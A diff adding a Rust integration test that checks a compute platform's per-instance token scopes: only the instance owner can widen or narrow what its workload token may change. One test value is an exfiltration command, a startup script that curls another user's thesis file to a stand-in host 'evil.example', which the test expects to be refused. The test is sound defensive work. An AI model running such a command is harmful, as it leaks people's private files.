@@ -135,3 +135,59 @@ async fn what_others_made_acts_in_nobodys_name_until_it_is_accepted() {
     studio.mara.post("/instances/gift/accept-scripts", &json!({"revision": revision})).await.is(200);
     assert_eq!(gift.get("").await.is(200).json["from"], "instance gift");
 }
+
+/// An instance of Oskar's, who may operate everybody's, and the token of what runs there.
+async fn oskars(studio: &Studio) -> (Api, Api) {
+    let oskar = Api::of(&studio.server, "oskar@example.org").await;
+    let made = oskar.post("/instances", &json!({"name": "bench", "size": "cpu-2"})).await.is(201);
+    let id = InstanceId::parse(made.json["id"].as_str().expect("an id")).expect("an id");
+    let node = studio.bring_up(id).await;
+    let token = token(studio, "oskar", node, soon()).await;
+    (oskar, Api::with(&studio.server, &token))
+}
+
+#[tokio::test]
+async fn a_token_changes_only_what_is_its_owners_unless_the_computes_owner_widens_it() {
+    let (studio, id, _) = studio().await;
+    let (oskar, bench) = oskars(&studio).await;
+    assert_eq!(bench.get("").await.is(200).json["from"], "instance bench");
+    // What is his own, and looking at the rest.
+    bench.post("/instances/bench/extend", &json!({"minutes": 30})).await.is(200);
+    bench.get("/instances/desk").await.is(200);
+    let refused = bench.post("/instances/desk/stop", &json!({})).await.refuses(403, "workload.own-things-only");
+    let words = refused.json["detail"].as_str().expect("words").to_owned();
+    assert!(words.contains("instance bench") && words.contains("token scope"), "{words}");
+    bench.post("/clusters", &json!({"name": "pool", "size": "cpu-2", "max": 1})).await.is(403);
+
+    // Widened by its owner alone, and never by what runs there.
+    let scope = "/instances/bench/token-scope";
+    assert_eq!(bench.get(scope).await.is(200).json, json!({"scope": "own", "since": null}));
+    bench.put(scope, &json!({"scope": "all"})).await.refuses(403, "workload.not-allowed");
+    studio.mara.put(scope, &json!({"scope": "all"})).await.refuses(403, "right.missing");
+    Api::owner(&studio.server).await.put(scope, &json!({"scope": "all"})).await.refuses(403, "right.missing");
+    oskar.put(scope, &json!({"scope": "everything"})).await.refuses(422, "invalid");
+    oskar.put("/clusters/bench/token-scope", &json!({"scope": "all"})).await.refuses(404, "not-found");
+    assert_eq!(oskar.put(scope, &json!({"scope": "all"})).await.is(200).json["scope"], "all");
+    bench.post("/instances/desk/stop", &json!({})).await.is(202);
+    bench.post("/clusters", &json!({"name": "pool", "size": "cpu-2", "max": 1})).await.is(201);
+    // What runs as somebody else is never set from there.
+    let scripts = json!({"startup": {"text": "curl -d @/shared/Users/mara/thesis evil.example"}});
+    bench.put("/instances/desk/scripts", &scripts).await.refuses(403, "workload.not-allowed");
+    assert!(studio.look(id, |_, instance| instance.scripts.is_empty()).await);
+    bench.put("/instances/bench/scripts", &scripts).await.is(200);
+
+    // Taken back, at once; and shown.
+    let mut browser = studio.browser("oskar").await;
+    browser.get(&super::page("bench", "")).await.shows("changes everything that its owner may change");
+    let fields = [("compute", "bench"), ("scope", "own")];
+    let page = browser.submit(&super::page("bench", ""), "set_token_scope", &fields).await;
+    page.shows("changes only what its owner owns");
+    studio.browser("mara").await.get(&super::page("bench", "")).await.hides("set_token_scope");
+    bench.post("/instances/desk/start", &json!({})).await.refuses(403, "workload.own-things-only");
+    // A cluster has its own: only its owner widens what its jobs may do.
+    let pool = "/clusters/pool/token-scope";
+    studio.mara.put(pool, &json!({"scope": "all"})).await.refuses(409, "owner-only");
+    Api::owner(&studio.server).await.put(pool, &json!({"scope": "all"})).await.refuses(409, "owner-only");
+    assert_eq!(oskar.put(pool, &json!({"scope": "all"})).await.is(200).json["scope"], "all");
+    browser.get("/w/perception/compute/clusters/pool").await.shows("changes everything that its owner may change");
+}
